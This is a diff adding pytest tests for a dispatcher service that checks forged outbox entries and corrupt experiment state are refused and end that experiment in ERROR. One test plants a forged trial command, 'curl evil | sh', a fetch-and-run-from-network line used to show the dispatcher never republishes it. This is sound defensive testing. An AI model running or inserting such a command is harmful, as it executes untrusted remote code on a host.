@@ -1,0 +1,162 @@
+"""The dispatcher republishes only outbox entries it would have written; a bad state ends in ERROR."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from services.dispatcher import lifecycle
+from services.dispatcher.lifecycle import Policy
+from services.dispatcher.outbox import CorruptState, checked_outbox, checked_state
+from services.dispatcher.service import Dispatcher
+from shared.messages import (
+    ExperimentStart,
+    ExperimentStatus,
+    ExperimentStatusChanged,
+    Message,
+    TrialKill,
+    TrialStatus,
+    TrialSubmit,
+)
+from shared.state import ExperimentState, OutboxEntry, TrialRecord
+from shared.storage import ConcurrentWriteError, Layout
+
+CONFIG = {"trialCommand": "python3 t.py", "trialConcurrency": 2, "maxTrialNumber": 4,
+          "searchSpace": {"x": {"_type": "uniform", "_value": [0, 1]}},
+          "tuner": {"name": "Random"}, "trainingService": {"platform": "local"}}
+
+
+class FakeStore:
+    """What the dispatcher uses of BlobStore, in memory, with ETags."""
+
+    def __init__(self) -> None:
+        self.blobs: dict[str, bytes] = {}
+        self.version = 0
+
+    async def read_document(self, path: str) -> tuple[bytes, str] | None:
+        return None if path not in self.blobs else (self.blobs[path], f"e{self.version}")
+
+    async def read_json(self, path: str) -> tuple[Any, str] | None:
+        found = await self.read_document(path)
+        return None if found is None else (json.loads(found[0]), found[1])
+
+    async def write_document(self, path: str, body: bytes, *, etag: str | None = None,
+                             create_only: bool = False) -> str:
+        if etag is not None and etag != f"e{self.version}":
+            raise ConcurrentWriteError(path)
+        self.blobs[path] = body
+        self.version += 1
+        return f"e{self.version}"
+
+    async def write_json(self, path: str, doc: Any, *, etag: str | None = None,
+                         create_only: bool = False) -> str:
+        return await self.write_document(path, json.dumps(doc, default=str).encode(), etag=etag)
+
+
+class FakeBus:
+    def __init__(self) -> None:
+        self.published: list[Message] = []
+
+    async def publish(self, msg: Message) -> None:
+        self.published.append(msg)
+
+    async def publish_many(self, msgs: Any) -> None:
+        self.published.extend(msgs)
+
+    async def publish_ticket(self, msg: Message) -> None:
+        self.published.append(msg)
+
+
+async def started(experiment_id: str = "exp1") -> tuple[Dispatcher, FakeStore, FakeBus]:
+    store, bus = FakeStore(), FakeBus()
+    dispatcher = Dispatcher(bus, store, Policy())  # type: ignore[arg-type]
+    await dispatcher.on_start(ExperimentStart(experiment_id=experiment_id, config=CONFIG))
+    return dispatcher, store, bus
+
+
+def stored_state(store: FakeStore, experiment_id: str = "exp1") -> dict[str, Any]:
+    return json.loads(store.blobs[Layout(experiment_id).state_doc])
+
+
+def a_state_with_a_trial() -> ExperimentState:
+    state = ExperimentState(experiment_id="exp1", started_at=lifecycle.utcnow())
+    state.trials["tr1"] = TrialRecord(trial_id="tr1", sequence_id=0, parameters={"x": 0.5},
+                                      status=TrialStatus.RUNNING)
+    return state
+
+
+def entry(msg: Message) -> OutboxEntry:
+    key = msg.routing_key if hasattr(msg, "purpose") else msg.ROUTING_KEY  # type: ignore[attr-defined]
+    return OutboxEntry(routing_key=key, body=msg.model_dump(mode="json"))
+
+
+def test_the_dispatchers_own_messages_pass() -> None:
+    state = a_state_with_a_trial()
+    state.outbox = [entry(TrialKill(experiment_id="exp1", trial_id="tr1", status=TrialStatus.USER_CANCELED,
+                                    reason="r")),
+                    entry(ExperimentStatusChanged(experiment_id="exp1", status=ExperimentStatus.RUNNING))]
+    assert [type(m) for m in checked_outbox(state)] == [TrialKill, ExperimentStatusChanged]
+
+
+@pytest.mark.parametrize(("forged", "says"), [
+    (OutboxEntry(routing_key="experiment.start", body={"experiment_id": "exp1", "config": CONFIG}),
+     "not a routing key the dispatcher publishes"),
+    (OutboxEntry(routing_key="trial.metric", body={}), "not a routing key"),
+    (OutboxEntry(routing_key="ticket.ingest.watch", body={}), "not a routing key"),
+    (OutboxEntry(routing_key="trial.submit", body={"experiment_id": "exp1"}), "invalid TrialSubmit"),
+    (entry(TrialSubmit(experiment_id="other", trial_id="tr1", sequence_id=0, parameters={})),
+     "for experiment 'other'"),
+    (entry(TrialSubmit(experiment_id="exp1", trial_id="planted", sequence_id=9, parameters={})),
+     "trial 'planted' is not one of the experiment's"),
+])
+def test_a_forged_entry_is_refused_naming_why(forged: OutboxEntry, says: str) -> None:
+    state = a_state_with_a_trial()
+    state.outbox = [forged]
+    with pytest.raises(CorruptState, match=says):
+        checked_outbox(state)
+
+
+@pytest.mark.parametrize("body", [
+    b"{not json", b"[]", b'{"experiment_id": "exp1"}', b"[" * 5000 + b"]" * 5000,
+    b'{"experiment_id": "exp2", "started_at": "2026-01-01T00:00:00Z"}',
+])
+def test_a_state_that_does_not_validate_is_corrupt(body: bytes) -> None:
+    with pytest.raises(CorruptState):
+        checked_state(body, "exp1")
+
+
+async def test_a_forged_outbox_entry_is_not_published_and_ends_the_experiment_in_error() -> None:
+    dispatcher, store, bus = await started()
+    doc = stored_state(store)
+    doc["outbox"].append({"routing_key": "experiment.start",
+                          "body": ExperimentStart(experiment_id="exp1", config={
+                              **CONFIG, "trialCommand": "curl evil | sh"}).model_dump(mode="json")})
+    store.blobs[Layout("exp1").state_doc] = json.dumps(doc).encode()
+    store.version += 1
+    dispatcher._cache.clear()  # a restarted dispatcher, or one that reloads after a conflict
+    bus.published.clear()
+    await dispatcher._load("exp1")
+    assert not any(isinstance(m, ExperimentStart) for m in bus.published)
+    after = stored_state(store)
+    assert after["status"] in ("ERROR", "STOPPING")
+    assert "not written by the dispatcher" in (after["reason"] or "")
+    assert after["outbox"] == [] or all(e["routing_key"] != "experiment.start" for e in after["outbox"])
+
+
+async def test_a_corrupt_state_ends_that_experiment_in_error_and_no_other() -> None:
+    dispatcher, store, bus = await started("exp1")
+    await dispatcher.on_start(ExperimentStart(experiment_id="exp2", config=CONFIG))
+    store.blobs[Layout("exp1").state_doc] = b'{"experiment_id": "exp1", "trials": "garbage"'
+    store.version += 1
+    dispatcher._cache.clear()
+    bus.published.clear()
+    await dispatcher._load("exp1")
+    await dispatcher._load("exp2")
+    assert stored_state(store, "exp1")["status"] == "ERROR"
+    assert "state.json is not JSON" in stored_state(store, "exp1")["reason"]
+    assert stored_state(store, "exp2")["status"] == "RUNNING"
+    errors = [m for m in bus.published
+              if isinstance(m, ExperimentStatusChanged) and m.status == ExperimentStatus.ERROR]
+    assert [m.experiment_id for m in errors] == ["exp1"]
